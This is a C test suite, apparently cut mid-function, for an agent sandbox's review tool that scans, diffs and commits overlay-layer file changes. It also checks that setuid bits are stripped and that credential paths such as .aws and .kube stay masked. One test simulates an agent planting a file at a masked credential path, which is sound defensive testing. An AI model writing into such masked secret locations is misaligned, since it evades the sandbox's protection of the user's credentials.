// SPDX-License-Identifier: GPL-2.0-only
/*
 * Session-store review (src/review/review.c) on real directories: each
 * test builds a temporary real tree and a store shaped like an overlayfs
 * upper layer (whiteouts are 0/0 character devices, replaced directories
 * carry user.overlay.opaque=y), then scans, diffs, commits or discards it
 * and looks at both trees afterwards.
 *
 * Conflicts are decided by time (the upper entry's birth against the real
 * entry's ctime), so the tests order their steps with a short sleep
 * between "before" and "after", and skip when the file system has no
 * birth time. Runs as root: whiteouts and device nodes need mknod.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

#include "review/review.h"
#include "shared/json.h"
#include "shared/util.h"

#define SESSION "s1"
#define JSON_HEAD "{\"session\":\"" SESSION "\",\"changes\":["

struct fx {
	char root[64];	    /* the temporary directory */
	char real[96];	    /* root/real: the real tree (tree 0) */
	char store[96];	    /* root/store: manifest, upper/0 */
	char up[128];	    /* root/store/upper/0 */
	char outside[96];   /* root/outside: where no write may land */
	struct aw_review r; /* freed by the teardown */
	struct aw_buf out;  /* diff, JSON or report text */
};

/* ---- files ------------------------------------------------------------ */

/* base/rel in one of a few rotating buffers (enough for one assertion). */
static const char *path_in(const char *base, const char *rel)
{
	static char bufs[8][PATH_MAX];
	static unsigned next;
	char *b = bufs[next++ % 8];

	assert_true((size_t)snprintf(b, PATH_MAX, "%s/%s", base, rel) <
		    PATH_MAX);
	return b;
}

static const char *rp(const struct fx *f, const char *rel)
{
	return path_in(f->real, rel);
}

static const char *upp(const struct fx *f, const char *rel)
{
	return path_in(f->up, rel);
}

static void put_n(const char *path, const char *data, size_t n, mode_t mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);

	assert_true(fd >= 0);
	assert_int_equal(write(fd, data, n), (ssize_t)n);
	/* Explicit: the umask must not decide what the test compares. */
	assert_int_equal(fchmod(fd, mode), 0);
	close(fd);
}

static void put(const char *path, const char *data, mode_t mode)
{
	put_n(path, data, strlen(data), mode);
}

static void mkdir_m(const char *path, mode_t mode)
{
	assert_int_equal(mkdir(path, mode), 0);
	assert_int_equal(chmod(path, mode), 0);
}

static void whiteout(const char *path)
{
	assert_int_equal(mknod(path, S_IFCHR | 0, makedev(0, 0)), 0);
}

static void make_opaque(const char *path)
{
	assert_int_equal(setxattr(path, "user.overlay.opaque", "y", 1, 0), 0);
}

static int exists(const char *path)
{
	struct stat st;

	return lstat(path, &st) == 0;
}

static mode_t mode_of(const char *path)
{
	struct stat st;

	assert_int_equal(lstat(path, &st), 0);
	return st.st_mode;
}

/* The whole file as a string; NULL if it is not there. */
static char *slurp(const char *path)
{
	struct stat st;
	char *data;
	int fd = open(path, O_RDONLY | O_NOFOLLOW | O_CLOEXEC);

	if (fd < 0)
		return NULL;
	assert_int_equal(fstat(fd, &st), 0);
	data = calloc(1, (size_t)st.st_size + 1);
	assert_non_null(data);
	assert_int_equal(read(fd, data, (size_t)st.st_size), st.st_size);
	close(fd);
	return data;
}

static void assert_file(const char *path, const char *want, mode_t mode)
{
	char *got = slurp(path);

	if (!got)
		fail_msg("%s: missing", path);
	assert_string_equal(got, want);
	free(got);
	assert_true(S_ISREG(mode_of(path)));
	assert_int_equal(mode_of(path) & 07777, mode);
}

static void assert_link(const char *path, const char *want)
{
	char t[PATH_MAX];
	ssize_t n = readlink(path, t, sizeof(t) - 1);

	assert_true(n >= 0);
	t[n] = 0;
	assert_string_equal(t, want);
}

/* Entries in a directory, "." and ".." not counted. */
static size_t entries(const char *path)
{
	DIR *d = opendir(path);
	struct dirent *de;
	size_t n = 0;

	if (!d)
		fail_msg("%s: %s", path, strerror(errno));
	while ((de = readdir(d)))
		n += strcmp(de->d_name, ".") && strcmp(de->d_name, "..");
	closedir(d);
	return n;
}

/* Let the clock move on: what is made after this is strictly newer than
 * what was made before, at any timestamp granularity ext4 uses. */
static void settle(void)
{
	struct timespec ts = {0, 20 * 1000 * 1000};

	nanosleep(&ts, NULL);
}

/* Every conflict decision rests on birth times: without them each real
 * change is a conflict and the ordering tests say nothing. */
static void need_btime(const struct fx *f)
{
	struct statx stx;

	if (statx(AT_FDCWD, f->up, 0, STATX_BTIME, &stx) == 0 &&
	    (stx.stx_mask & STATX_BTIME))
		return;
	print_message("# SKIP %s has no birth time (statx STATX_BTIME): "
		      "conflicts cannot be ordered\n",
		      f->up);
	skip();
}

/* ---- the store -------------------------------------------------------- */

/* The manifest: tree 0 is f->real; extra is appended as is. */
static void write_manifest(const struct fx *f, const char *extra)
{
	struct aw_buf b = {};

	aw_buf_puts(&b, "agentwall-session 1\ntree 0 ");
	aw_pct_encode(&b, f->real, strlen(f->real));
	aw_buf_puts(&b, "\n");
	if (extra)
		aw_buf_puts(&b, extra);
	assert_false(b.oom);
	put(path_in(f->store, "manifest"), b.data, 0600);
	aw_buf_free(&b);
}

static void escalate(const struct fx *f, const char *rel)
{
	struct aw_buf b = {};
	const char *p = rp(f, rel);

	aw_buf_puts(&b, "escalate ");
	aw_pct_encode(&b, p, strlen(p));
	aw_buf_puts(&b, "\n");
	write_manifest(f, b.data);
	aw_buf_free(&b);
}

static int fx_setup(void **state)
{
	struct fx *f = calloc(1, sizeof(*f));

	if (!f)
		return -1;
	snprintf(f->root, sizeof(f->root), "/tmp/aw-review-XXXXXX");
	if (!mkdtemp(f->root)) {
		free(f);
		return -1;
	}
	snprintf(f->real, sizeof(f->real), "%s/real", f->root);
	snprintf(f->store, sizeof(f->store), "%s/store", f->root);
	snprintf(f->up, sizeof(f->up), "%s/upper/0", f->store);
	snprintf(f->outside, sizeof(f->outside), "%s/outside", f->root);
	if (mkdir(f->real, 0755) || mkdir(f->store, 0700) ||
	    mkdir(path_in(f->store, "upper"), 0700) || mkdir(f->up, 0755) ||
	    mkdir(f->outside, 0755) || chmod(f->real, 0755) ||
	    chmod(f->up, 0755))
		return -1;
	*state = f;
	write_manifest(f, NULL);
	return 0;
}

static int rm_one(const char *p, const struct stat *st, int type,
		  struct FTW *ftw)
{
	return remove(p);
}

static int fx_teardown(void **state)
{
	struct fx *f = *state;
	int r;

	aw_review_free(&f->r);
	aw_buf_free(&f->out);
	r = nftw(f->root, rm_one, 16, FTW_DEPTH | FTW_PHYS);
	free(f);
	return r;
}

static void scan(struct fx *f)
{
	aw_review_free(&f->r);
	if (aw_review_scan(&f->r, f->store) < 0)
		fail_msg("scan: %s", f->r.err);
}

static struct aw_change *find(struct fx *f, const char *rel)
{
	for (size_t i = 0; i < f->r.n_changes; i++)
		if (!strcmp(f->r.changes[i].rel, rel))
			return &f->r.changes[i];
	return NULL;
}

static struct aw_change *must_find(struct fx *f, const char *rel,
				   enum aw_change_kind kind)
{
	struct aw_change *c = find(f, rel);

	if (!c)
		fail_msg("no change for %s", rel);
	if (c->kind != kind)
		fail_msg("%s: %s, expected %s", rel,
			 aw_change_kind_name(c->kind),
			 aw_change_kind_name(kind));
	return c;
}

static size_t index_of(struct fx *f, const char *rel)
{
	struct aw_change *c = find(f, rel);

	assert_non_null(c);
	return (size_t)(c - f->r.changes);
}

static void commit(struct fx *f, int approved, enum aw_conflict_mode mode,
		   struct aw_commit_result *res)
{
	aw_buf_reset(&f->out);
	assert_int_equal(
	    aw_review_commit(&f->r, SESSION, approved, mode, &f->out, res), 0);
	assert_false(f->out.oom);
}

static void discard(struct fx *f, struct aw_commit_result *res)
{
	aw_buf_reset(&f->out);
	assert_int_equal(aw_review_discard(&f->r, &f->out, res), 0);
	assert_false(f->out.oom);
}

/* Select one real path (absolute); returns how many matched nothing. */
static size_t select1(struct fx *f, const char *path)
{
	char *p = (char *)path;

	return aw_review_select(&f->r, &p, 1);
}

static void assert_contains(const char *hay, const char *needle)
{
	if (!hay || !strstr(hay, needle))
		fail_msg("expected\n%s\nin\n%s", needle, hay ? hay : "(null)");
}

static void assert_lacks(const char *hay, const char *needle)
{
	if (hay && strstr(hay, needle))
		fail_msg("did not expect\n%s\nin\n%s", needle, hay);
}

/* ---- a JSON checker: enough to say the text is one valid value ------- */

static const char *json_value(const char *p, int depth);

static const char *json_ws(const char *p)
{
	while (*p == ' ' || *p == '\n' || *p == '\t' || *p == '\r')
		p++;
	return p;
}

static const char *json_string(const char *p)
{
	if (*p++ != '"')
		return NULL;
	while (*p != '"') {
		if ((unsigned char)*p < 0x20)
			return NULL; /* also the end of the text */
		if (*p == '\\') {
			p++;
			if (*p == 'u') {
				for (int i = 1; i <= 4; i++)
					if (!isxdigit((unsigned char)p[i]))
						return NULL;
				p += 4;
			} else if (!*p || !strchr("\"\\/bfnrt", *p)) {
				return NULL;
			}
		}
		p++;
	}
	return p + 1;
}

static const char *json_container(const char *p, char close, int depth)
{
	p = json_ws(p + 1);
	if (*p == close)
		return p + 1;
	for (;;) {
		if (close == '}') {
			p = json_string(json_ws(p));
			if (!p || *(p = json_ws(p)) != ':')
				return NULL;
			p++;
		}
		p = json_value(p, depth + 1);
		if (!p)
			return NULL;
		p = json_ws(p);
		if (*p == close)
			return p + 1;
		if (*p++ != ',')
			return NULL;
	}
}

static const char *json_value(const char *p, int depth)
{
	if (depth > 64)
		return NULL;
	p = json_ws(p);
	if (*p == '{')
		return json_container(p, '}', depth);
	if (*p == '[')
		return json_container(p, ']', depth);
	if (*p == '"')
		return json_string(p);
	if (!strncmp(p, "true", 4) || !strncmp(p, "null", 4))
		return p + 4;
	if (!strncmp(p, "false", 5))
		return p + 5;
	if (*p == '-' || isdigit((unsigned char)*p)) {
		char *end;

		strtod(p, &end);
		return end;
	}
	return NULL;
}

static void assert_json(const char *text)
{
	const char *end = text ? json_value(text, 0) : NULL;

	if (!end || *json_ws(end))
		fail_msg("not one JSON value:\n%s", text ? text : "(null)");
}

/* ---- scan ------------------------------------------------------------- */

/*
 * One of each kind. The real tree first, then (strictly later) the upper
 * layer, as an agent's session would have made it.
 */
static void make_all_kinds(struct fx *f)
{
	put(rp(f, "mod.txt"), "one\ntwo\nthree\n", 0644);
	put(rp(f, "modeonly.sh"), "echo hi\n", 0644);
	put(rp(f, "gone.txt"), "bye\n", 0644);
	mkdir_m(rp(f, "olddir"), 0755);
	put(rp(f, "olddir/a"), "a\n", 0644);
	mkdir_m(rp(f, "olddir/b"), 0755);
	put(rp(f, "olddir/b/c"), "c\n", 0644);
	mkdir_m(rp(f, "opq"), 0755);
	put(rp(f, "opq/keep.txt"), "keep\n", 0644);
	put(rp(f, "opq/drop.txt"), "dropped\n", 0644);
	put(rp(f, "same.txt"), "same\n", 0644);
	assert_int_equal(symlink("target-one", rp(f, "link")), 0);
	put(rp(f, "moved-src.txt"), "moved content\n", 0644);
	settle();

	put(upp(f, "new.txt"), "hello\n", 0644);
	put(upp(f, "mod.txt"), "one\nTWO\nthree\n", 0644);
	put(upp(f, "modeonly.sh"), "echo hi\n", 0755);
	whiteout(upp(f, "gone.txt"));
	whiteout(upp(f, "olddir"));
	mkdir_m(upp(f, "opq"), 0755);
	make_opaque(upp(f, "opq"));
	put(upp(f, "opq/keep.txt"), "keep\n", 0644);
	assert_int_equal(mkfifo(upp(f, "fifo"), 0644), 0);
	put(upp(f, "same.txt"), "same\n", 0644);
	assert_int_equal(symlink("target-two", upp(f, "link")), 0);
	assert_int_equal(symlink("anywhere", upp(f, "newlink")), 0);
	put(upp(f, "moved-dst.txt"), "moved content\n", 0644);
	whiteout(upp(f, "moved-src.txt"));
	mkdir_m(upp(f, "newdir"), 0750);
	put(upp(f, "newdir/inner.txt"), "inner\n", 0600);
}

static void test_scan_kinds(void **state)
{
	struct fx *f = *state;
	struct aw_change *c;

	make_all_kinds(f);
	scan(f);

	c = must_find(f, "new.txt", AW_CHANGE_CREATED);
	assert_int_equal(c->upper_mode, S_IFREG | 0644);
	assert_int_equal(c->real_mode, 0);
	assert_int_equal(c->size, 6);
	assert_int_equal(c->tree, 0);
	assert_string_equal(c->real, rp(f, "new.txt"));
	assert_null(c->renamed_from);
	assert_true(c->selected);
	assert_false(c->escalated);

	c = must_find(f, "mod.txt", AW_CHANGE_MODIFIED);
	assert_int_equal(c->upper_mode, S_IFREG | 0644);
	assert_int_equal(c->real_mode, S_IFREG | 0644);

	c = must_find(f, "modeonly.sh", AW_CHANGE_MODE);
	assert_int_equal(c->upper_mode, S_IFREG | 0755);
	assert_int_equal(c->real_mode, S_IFREG | 0644);

	c = must_find(f, "gone.txt", AW_CHANGE_DELETED);
	assert_int_equal(c->upper_mode, 0);
	assert_int_equal(c->real_mode, S_IFREG | 0644);

	c = must_find(f, "olddir", AW_CHANGE_DELETED);
	assert_true(S_ISDIR(c->real_mode));
	/* A whiteout hides the whole directory: its entries are not
	 * listed one by one. */
	assert_null(find(f, "olddir/a"));

	/* The replaced directory: what the real one has and the upper
	 * lacks is deleted; the copy with the same bytes is no change. */
	c = must_find(f, "opq/drop.txt", AW_CHANGE_DELETED);
	assert_int_equal(c->real_mode, S_IFREG | 0644);
	assert_null(find(f, "opq"));
	assert_null(find(f, "opq/keep.txt"));

	c = must_find(f, "fifo", AW_CHANGE_SPECIAL);
	assert_true(S_ISFIFO(c->upper_mode));

	/* Copied up, unchanged. */
	assert_null(find(f, "same.txt"));

	c = must_find(f, "link", AW_CHANGE_MODIFIED);
	assert_true(S_ISLNK(c->upper_mode));
	assert_true(S_ISLNK(c->real_mode));
	c = must_find(f, "newlink", AW_CHANGE_CREATED);
	assert_true(S_ISLNK(c->upper_mode));

	/* Same bytes deleted here and created there: a rename. */
	c = must_find(f, "moved-dst.txt", AW_CHANGE_CREATED);
	assert_non_null(c->renamed_from);
	assert_string_equal(c->renamed_from, rp(f, "moved-src.txt"));
	c = must_find(f, "moved-src.txt", AW_CHANGE_DELETED);
	assert_non_null(c->renamed_from);
	assert_string_equal(c->renamed_from, rp(f, "moved-dst.txt"));

	c = must_find(f, "newdir", AW_CHANGE_CREATED);
	assert_int_equal(c->upper_mode, S_IFDIR | 0750);
	c = must_find(f, "newdir/inner.txt", AW_CHANGE_CREATED);
	assert_int_equal(c->upper_mode, S_IFREG | 0600);
	/* Parents before children: commit makes the directory first. */
	assert_true(index_of(f, "newdir") < index_of(f, "newdir/inner.txt"));

	assert_int_equal(f->r.n_changes, 13);
	for (size_t i = 0; i < f->r.n_changes; i++) {
		c = &f->r.changes[i];
		assert_string_equal(c->real, rp(f, c->rel));
	}
}

static void test_scan_since_is_birth(void **state)
{
	struct fx *f = *state;
	struct statx stx;
	struct aw_change *c;

	need_btime(f);
	put(upp(f, "new.txt"), "x\n", 0644);
	scan(f);
	c = must_find(f, "new.txt", AW_CHANGE_CREATED);
	assert_int_equal(
	    statx(AT_FDCWD, upp(f, "new.txt"), 0, STATX_BTIME, &stx), 0);
	assert_int_equal(c->since.tv_sec, stx.stx_btime.tv_sec);
	assert_int_equal(c->since.tv_nsec, stx.stx_btime.tv_nsec);
}

static void test_scan_rename_needs_same_bytes(void **state)
{
	struct fx *f = *state;

	put(rp(f, "a.txt"), "alpha\n", 0644);
	put(rp(f, "b.txt"), "bravo\n", 0644);
	settle();
	whiteout(upp(f, "a.txt"));
	whiteout(upp(f, "b.txt"));
	/* Same size as a.txt, other bytes: not a rename. */
	put(upp(f, "c.txt"), "alphA\n", 0644);
	/* Same bytes as b.txt: a rename, paired once. */
	put(upp(f, "d.txt"), "bravo\n", 0644);
	put(upp(f, "e.txt"), "bravo\n", 0644);
	scan(f);
	assert_int_equal(f->r.n_changes, 5);
	assert_null(must_find(f, "a.txt", AW_CHANGE_DELETED)->renamed_from);
	assert_null(must_find(f, "c.txt", AW_CHANGE_CREATED)->renamed_from);
	assert_string_equal(
	    must_find(f, "d.txt", AW_CHANGE_CREATED)->renamed_from,
	    rp(f, "b.txt"));
	assert_null(must_find(f, "e.txt", AW_CHANGE_CREATED)->renamed_from);
}

static void test_scan_whiteout_over_nothing(void **state)
{
	struct fx *f = *state;

	/* The agent made and removed a file the real tree never had. */
	whiteout(upp(f, "ghost"));
	mkdir_m(upp(f, "ghostdir"), 0755);
	make_opaque(upp(f, "ghostdir"));
	scan(f);
	assert_int_equal(f->r.n_changes, 1);
	must_find(f, "ghostdir", AW_CHANGE_CREATED);
}

static void test_scan_no_manifest(void **state)
{
	struct fx *f = *state;

	/* A session that never reached its sandbox: nothing to review. */
	assert_int_equal(unlink(path_in(f->store, "manifest")), 0);
	put(upp(f, "new.txt"), "x\n", 0644);
	assert_int_equal(aw_review_scan(&f->r, f->store), 0);
	assert_int_equal(f->r.n_changes, 0);
}

/* Masks made ahead: the manifest's mask records, as the launcher writes
 * them for secrets absent at start. */
static void masks(const struct fx *f, const char *a, const char *b)
{
	struct aw_buf m = {};

	aw_buf_puts(&m, "mask ");
	aw_pct_encode(&m, rp(f, a), strlen(rp(f, a)));
	aw_buf_puts(&m, "\nmask ");
	aw_pct_encode(&m, rp(f, b), strlen(rp(f, b)));
	aw_buf_puts(&m, "\n");
	write_manifest(f, m.data);
	aw_buf_free(&m);
}

static int any(struct fx *f)
{
	char err[1024] = "";
	int r = aw_review_any(f->store, err, sizeof(err));

	if (r < 0)
		fail_msg("any: %s", err);
	return r;
}

static void test_any_masks_ahead_are_no_change(void **state)
{
	struct fx *f = *state;

	/* What the launcher puts into the upper layer for masks made ahead:
	 * a whiteout at the first missing component (.aws), and one below
	 * a real directory, made on the way with the real one's mode. */
	mkdir_m(rp(f, ".config"), 0750);
	masks(f, ".aws", ".config/gh");
	whiteout(upp(f, ".aws"));
	mkdir_m(upp(f, ".config"), 0750);
	whiteout(upp(f, ".config/gh"));
	assert_int_equal(any(f), 0);
	scan(f);
	assert_int_equal(f->r.n_changes, 0);
	/* The secret appears in the real tree later: still hidden, and
	 * still no deletion the agent made. */
	put(rp(f, ".config/gh"), "token\n", 0600);
	assert_int_equal(any(f), 0);
	/* A copy the agent made with nothing different is no change. */
	put(rp(f, "same.txt"), "same\n", 0644);
	put(upp(f, "same.txt"), "same\n", 0644);
	assert_int_equal(any(f), 0);
}

static void test_any_agent_at_a_mask_is_a_change(void **state)
{
	struct fx *f = *state;

	/* The agent writes where a mask made ahead was: its change, held
	 * like any other (the filter is the whiteout at that path, not the
	 * path). */
	masks(f, ".aws", ".kube");
	whiteout(upp(f, ".kube"));
	put(upp(f, ".aws"), "planted\n", 0644);
	assert_int_equal(any(f), 1);
	scan(f);
	assert_int_equal(f->r.n_changes, 1);
	must_find(f, ".aws", AW_CHANGE_CREATED);
	/* A directory there (it replaced the whiteout: opaque). */
	assert_int_equal(unlink(upp(f, ".aws")), 0);
	mkdir_m(upp(f, ".aws"), 0700);
	make_opaque(upp(f, ".aws"));
	assert_int_equal(any(f), 1);
	/* A real file deleted (a whiteout at a path no mask names). */
	assert_int_equal(rmdir(upp(f, ".aws")), 0);
	whiteout(upp(f, ".aws"));
	assert_int_equal(any(f), 0);
	put(rp(f, "real.txt"), "r\n", 0644);
	whiteout(upp(f, "real.txt"));
	assert_int_equal(any(f), 1);
	/* The directory made on the way to a mask, chmod-ed by the agent. */
	assert_int_equal(unlink(upp(f, "real.txt")), 0);
	mkdir_m(rp(f, "d"), 0755);
	masks(f, "d/k", ".kube");
	mkdir_m(upp(f, "d"), 0700);
	whiteout(upp(f, "d/k"));
	assert_int_equal(any(f), 1);
	scan(f);
	must_find(f, "d", AW_CHANGE_MODE);
}

/* ---- diff and JSON ---------------------------------------------------- */

/* One expected piece of a patch, with the real tree's path substituted
 * for every "@/" (so "a@/x" is a/<real>/x; a hunk's "@@" stays). */
static void assert_patch(struct fx *f, const char *tmpl)
{
	struct aw_buf b = {};

	for (const char *p = tmpl; *p; p++) {
		if (p[0] == '@' && p[1] == '/')
			aw_buf_puts(&b, f->real);
		else
			aw_buf_add(&b, p, 1);
	}
	assert_false(b.oom);
	assert_contains(f->out.data, b.data);
	aw_buf_free(&b);
}

static void assert_no_patch(struct fx *f, const char *tmpl)
{
	struct aw_buf b = {};

	for (const char *p = tmpl; *p; p++) {
		if (p[0] == '@' && p[1] == '/')
			aw_buf_puts(&b, f->real);
		else
			aw_buf_add(&b, p, 1);
	}
	assert_false(b.oom);
	assert_lacks(f->out.data, b.data);
	aw_buf_free(&b);
}

static void test_diff_text(void **state)
{
	struct fx *f = *state;

	make_all_kinds(f);
	scan(f);
	assert_int_equal(aw_review_diff(&f->r, &f->out), 0);

	assert_patch(f, "diff --git a@/mod.txt b@/mod.txt\n"
			"--- a@/mod.txt\n"
			"+++ b@/mod.txt\n"
			"@@ -1,3 +1,3 @@\n"
			" one\n"
			"-two\n"
			"+TWO\n"
			" three\n");
	assert_patch(f, "diff --git a@/new.txt b@/new.txt\n"
			"new file mode 100644\n"
			"--- /dev/null\n"
			"+++ b@/new.txt\n"
			"@@ -0,0 +1 @@\n"
			"+hello\n");
	assert_patch(f, "diff --git a@/gone.txt b@/gone.txt\n"
			"deleted file mode 100644\n"
			"--- a@/gone.txt\n"
			"+++ /dev/null\n"
			"@@ -1 +0,0 @@\n"
			"-bye\n");
	assert_patch(f, "diff --git a@/modeonly.sh b@/modeonly.sh\n"
			"old mode 100644\n"
			"new mode 100755\n");
	assert_no_patch(f, "--- a@/modeonly.sh");
	assert_patch(f, "diff --git a@/link b@/link\n"
			"--- a@/link\n"
			"+++ b@/link\n"
			"@@ -1 +1 @@\n"
			"-target-one\n"
			"\\ No newline at end of file\n"
			"+target-two\n"
			"\\ No newline at end of file\n");
	assert_patch(f, "diff --git a@/moved-src.txt b@/moved-dst.txt\n"
			"similarity index 100%\n"
			"rename from @/moved-src.txt\n"
			"rename to @/moved-dst.txt\n");
	/* The deleted half of the rename is not shown again. */
	assert_no_patch(f, "b@/moved-src.txt");
	assert_patch(f, "# agentwall: directory created: @/newdir\n");
	assert_patch(f, "# agentwall: directory deleted: @/olddir\n");
	assert_patch(f, "deleted file mode 100644\n"
			"--- a@/opq/drop.txt\n");
	assert_patch(f, "# agentwall: not taken (a device node, fifo or "
			"socket): @/fifo\n");
	assert_no_patch(f, "same.txt");
}

static void test_diff_binary(void **state)
{
	struct fx *f = *state;

	put_n(rp(f, "blob"), "x\0y\n", 4, 0644);
	settle();
	put_n(upp(f, "blob"), "x\0z\n", 4, 0644);
	put_n(upp(f, "bin.dat"), "ab\0cd", 5, 0644);
	scan(f);
	assert_int_equal(aw_review_diff(&f->r, &f->out), 0);
	assert_patch(f, "new file mode 100644\n"
			"Binary files /dev/null and b@/bin.dat differ\n");
	assert_patch(f, "Binary files a@/blob and b@/blob differ\n");
	assert_no_patch(f, "@@");
	assert_true(must_find(f, "bin.dat", AW_CHANGE_CREATED)->binary);
	assert_true(must_find(f, "blob", AW_CHANGE_MODIFIED)->binary);
}

static void test_diff_quoted_paths(void **state)
{
	struct fx *f = *state;

	put(upp(f, "nl\nname"), "x\n", 0644);
	put(upp(f, "q\"t\tb"), "y\n", 0644);
	put(upp(f, "caf\xc3\xa9"), "z\n", 0644);
	put(upp(f, "plain name"), "w\n", 0644);
	scan(f);
	assert_int_equal(aw_review_diff(&f->r, &f->out), 0);
	assert_patch(f, "diff --git \"a@/nl\\nname\" \"b@/nl\\nname\"\n");
	assert_patch(f, "+++ \"b@/nl\\nname\"\n");
	assert_patch(f, "+++ \"b@/q\\\"t\\tb\"\n");
	assert_patch(f, "+++ \"b@/caf\\303\\251\"\n");
	/* A space is printable: no quotes. */
	assert_patch(f, "+++ b@/plain name\n");
	/* No raw control character reaches a header line. */
	assert_no_patch(f, "/nl\nname");
	assert_no_patch(f, "\t");
}

static void test_json(void **state)
{
	struct fx *f = *state;
	char want[PATH_MAX];

	make_all_kinds(f);
	put(upp(f, "nl\nname"), "x\n", 0644);
	put(upp(f, "suid"), "#!/bin/sh\n", 04755);
	scan(f);
	assert_int_equal(aw_review_json(&f->r, SESSION, &f->out), 0);
	assert_non_null(f->out.data);
	assert_true(
	    !strncmp(f->out.data, JSON_HEAD "{", strlen(JSON_HEAD "{")));
	assert_json(f->out.data);
	assert_contains(f->out.data, "\"kind\":\"created\"");
	assert_contains(f->out.data, "\"kind\":\"modified\"");
	assert_contains(f->out.data, "\"kind\":\"mode\"");
	assert_contains(f->out.data, "\"kind\":\"deleted\"");
	assert_contains(f->out.data, "\"kind\":\"special\"");
	assert_contains(f->out.data, "\"kind\":\"renamed\"");
	assert_contains(f->out.data, "\"type\":\"symlink\"");
	assert_contains(f->out.data, "\"type\":\"directory\"");
	assert_contains(f->out.data, "\"mode_new\":\"4755\"");
	snprintf(want, sizeof(want), "\"renamed_from\":\"%s/moved-src.txt\"",
		 f->real);
	assert_contains(f->out.data, want);
	snprintf(want, sizeof(want), "\"renamed_to\":\"%s/moved-dst.txt\"",
		 f->real);
	assert_contains(f->out.data, want);
	/* The newline: escaped as text, exact as %XX. */
	snprintf(want, sizeof(want), "\"path\":\"%s/nl\\nname\"", f->real);
	assert_contains(f->out.data, want);
	snprintf(want, sizeof(want), "\"path_pct\":\"%s/nl%%0Aname\"", f->real);
	assert_contains(f->out.data, want);
	/* The patch is inside, as a string. */
	assert_contains(f->out.data, "-two\\n+TWO\\n");

	/* Only the selected changes. */
	aw_buf_reset(&f->out);
	assert_int_equal(select1(f, rp(f, "mod.txt")), 0);
	assert_int_equal(aw_review_json(&f->r, SESSION, &f->out), 0);
	assert_json(f->out.data);
	assert_lacks(f->out.data, "\"kind\":\"created\"");
	assert_contains(f->out.data, "\"kind\":\"modified\"");

	/* Nothing selected is still a document. */
	aw_review_free(&f->r);
	assert_int_equal(unlink(path_in(f->store, "manifest")), 0);
	scan(f);
	aw_buf_reset(&f->out);
	assert_int_equal(aw_review_json(&f->r, SESSION, &f->out), 0);
	assert_string_equal(f->out.data, JSON_HEAD "]}\n");
}

/* ---- commit ----------------------------------------------------------- */

static void test_commit_all_kinds(void **state)
{
	struct fx *f = *state;
	struct aw_commit_result res;
	size_t n;

	need_btime(f);
	put(rp(f, "mod.txt"), "one\ntwo\nthree\n", 0644);
	put(rp(f, "modeonly.sh"), "echo hi\n", 0644);
	put(rp(f, "gone.txt"), "bye\n", 0644);
	mkdir_m(rp(f, "olddir"), 0755);
	put(rp(f, "olddir/a"), "a\n", 0644);
	mkdir_m(rp(f, "olddir/b"), 0755);
	put(rp(f, "olddir/b/c"), "c\n", 0644);
	assert_int_equal(symlink("target-one", rp(f, "link")), 0);
	put(rp(f, "moved-src.txt"), "moved content\n", 0644);
	mkdir_m(rp(f, "wasdir"), 0755);
	put(rp(f, "wasdir/x"), "x\n", 0644);
	put(rp(f, "wasfile"), "file\n", 0644);
	settle();

	put(upp(f, "new.txt"), "hello\n", 0644);
	put(upp(f, "suid.sh"), "#!/bin/sh\n", 04755);
	put(upp(f, "sgid.sh"), "#!/bin/sh\n", 02755);
	put(upp(f, "mod.txt"), "one\nTWO\nthree\n", 0644);
	put(upp(f, "modeonly.sh"), "echo hi\n", 0755);
	whiteout(upp(f, "gone.txt"));
	whiteout(upp(f, "olddir"));
	assert_int_equal(symlink("target-two", upp(f, "link")), 0);
	assert_int_equal(symlink("anywhere", upp(f, "newlink")), 0);
	put(upp(f, "moved-dst.txt"), "moved content\n", 0644);
	whiteout(upp(f, "moved-src.txt"));
	mkdir_m(upp(f, "newdir"), 0750);
	put(upp(f, "newdir/inner.txt"), "inner\n", 0600);
	put(upp(f, "wasdir"), "now a file\n", 0640);
	mkdir_m(upp(f, "wasfile"), 0711);
	put(upp(f, "wasfile/inside.txt"), "inside\n", 0644);

	scan(f);
	n = f->r.n_changes;
	assert_int_equal(n, 16);
	commit(f, 0, AW_CONFLICT_KEEP, &res);
	if (res.committed != n)
		fail_msg("committed %zu of %zu:\n%s", res.committed, n,
			 f->out.data);
	assert_int_equal(res.conflicts, 0);
	assert_int_equal(res.held, 0);
	assert_int_equal(res.skipped, 0);
	assert_int_equal(res.failed, 0);
	assert_int_equal(res.remaining, 0);
	assert_int_equal(res.bytes,
			 strlen("hello\n") + 2 * strlen("#!/bin/sh\n") +
			     strlen("one\nTWO\nthree\n") + strlen("echo hi\n") +
			     strlen("moved content\n") + strlen("inner\n") +
			     strlen("now a file\n") + strlen("inside\n"));
	assert_patch(f, "committed @/new.txt\n");

	assert_file(rp(f, "new.txt"), "hello\n", 0644);
	/* Never a setuid or setgid bit from the agent. */
	assert_file(rp(f, "suid.sh"), "#!/bin/sh\n", 0755);
	assert_file(rp(f, "sgid.sh"), "#!/bin/sh\n", 0755);
	assert_file(rp(f, "mod.txt"), "one\nTWO\nthree\n", 0644);
	assert_file(rp(f, "modeonly.sh"), "echo hi\n", 0755);
	assert_false(exists(rp(f, "gone.txt")));
	assert_false(exists(rp(f, "olddir")));
	assert_link(rp(f, "link"), "target-two");
	assert_link(rp(f, "newlink"), "anywhere");
	assert_false(exists(rp(f, "moved-src.txt")));
	assert_file(rp(f, "moved-dst.txt"), "moved content\n", 0644);
	assert_int_equal(mode_of(rp(f, "newdir")), S_IFDIR | 0750);
	assert_file(rp(f, "newdir/inner.txt"), "inner\n", 0600);
	assert_file(rp(f, "wasdir"), "now a file\n", 0640);
	assert_int_equal(mode_of(rp(f, "wasfile")), S_IFDIR | 0711);
	assert_file(rp(f, "wasfile/inside.txt"), "inside\n", 0644);
	/* Nothing else appeared (no temporary file left behind). */
	assert_int_equal(entries(f->real), 11);
	assert_int_equal(entries(rp(f, "newdir")), 1);

	/* Everything taken left the store, directories included. */
	assert_int_equal(entries(f->up), 0);

	/* Again: nothing to do. */
	scan(f);
	assert_int_equal(f->r.n_changes, 0);
	commit(f, 0, AW_CONFLICT_KEEP, &res);
	assert_int_equal(res.committed, 0);
